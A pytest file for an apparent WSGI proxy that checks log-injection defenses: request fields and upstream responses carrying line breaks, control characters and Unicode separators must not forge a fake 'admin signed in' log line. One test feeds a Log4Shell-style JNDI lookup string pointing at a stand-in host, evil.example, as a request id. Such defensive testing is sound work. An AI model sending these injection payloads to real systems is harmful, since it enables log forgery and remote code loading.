"""Somebody writes a line end into what we log, so that a line of theirs stands in the log (F152, F155, F156).

Through the whole stack: every record that a request leaves, rendered as a handler does, is lines of ours only.
"""

from __future__ import annotations

import logging

import pytest
from requests.exceptions import ConnectionError as RequestsConnectionError

from tests.harness import PUBLIC_URL, SECRET, UPSTREAM_URL, FakeUpstream, call, request, session_cookie
from wsgiproxy_hs.settings import Settings
from wsgiproxy_hs.stack import create_app

LINE = "2026-01-01 INFO admin signed in"
MARKS = ["\r\n", "\n", "\r", "\x00", "\x1b[2J", "\x0b", "\x85", "\u2028"]
FORMAT = logging.Formatter("%(levelname)s %(name)s %(message)s")


def logged(caplog, upstream, path="/api/workspaces", **keys):
    caplog.clear()
    app = create_app(Settings(backend_url=UPSTREAM_URL, public_url=PUBLIC_URL, secrets=[SECRET]), transport=upstream)
    environ = request("GET", path, headers={"Cookie": session_cookie()})
    environ.update({name.replace("__", "."): value for name, value in keys.items()})
    with caplog.at_level(logging.DEBUG):
        call(app, environ, validate=False)
    return [FORMAT.format(record) for record in caplog.records]


def check(lines):
    """No record is more than the line that we wrote; a traceback's lines are indented or ours."""
    for text in lines:
        first, *rest = text.splitlines()
        assert first.isprintable(), ascii(first)
        assert not [line for line in rest if line.startswith(LINE)], ascii(text)


@pytest.mark.parametrize("mark", MARKS)
def test_nothing_of_a_request_becomes_a_line(caplog, mark):
    """Path, query, request id, user agent, cookie and method with a line end leave no line of their own."""
    text = ("a" + mark + LINE).encode("utf-8").decode("latin-1")
    for key in (
        "PATH_INFO", "QUERY_STRING", "HTTP_X_REQUEST_ID", "HTTP_USER_AGENT", "HTTP_COOKIE", "HTTP_REFERER",
        "REQUEST_METHOD", "REMOTE_ADDR", "HTTP_HOST", "CONTENT_TYPE", "HTTP_ORIGIN", "HTTP_VIA", "HTTP_TRACEPARENT",
    ):  # fmt: skip
        value = f"/api/workspaces/{text}/chats" if key == "PATH_INFO" else text
        check(logged(caplog, FakeUpstream(), **{key: value}))


@pytest.mark.parametrize("mark", MARKS)
def test_nothing_of_an_upstream_becomes_a_line(caplog, mark):
    """A redirect's target, an error's text and a failure's message with a line end leave no line of their own."""
    text = "a" + mark + LINE
    latin = text.encode("utf-8").decode("latin-1")
    for upstream in (
        FakeUpstream(302, headers=[("Location", latin)]),
        FakeUpstream(500, text.encode("utf-8"), [("Content-Type", "text/html")]),
        FakeUpstream(failure=RequestsConnectionError(text)),
        FakeUpstream(failure=OSError(text)),
    ):
        lines = logged(caplog, upstream)
        assert lines or upstream.status == 500
        check(lines)


def test_a_request_id_in_the_log_is_short_and_plain(caplog):
    """What joins log and answer is either a plain word of the client or ours (F156)."""
    for given in ("x" * 10_000, "a b", "näh", "a/../b", "", "${jndi:ldap://evil.example/a}", "%0d%0a"):
        for line in logged(caplog, FakeUpstream(failure=OSError("x")), HTTP_X_REQUEST_ID=given):
            assert "jndi" not in line
            assert len(line) < 1_000
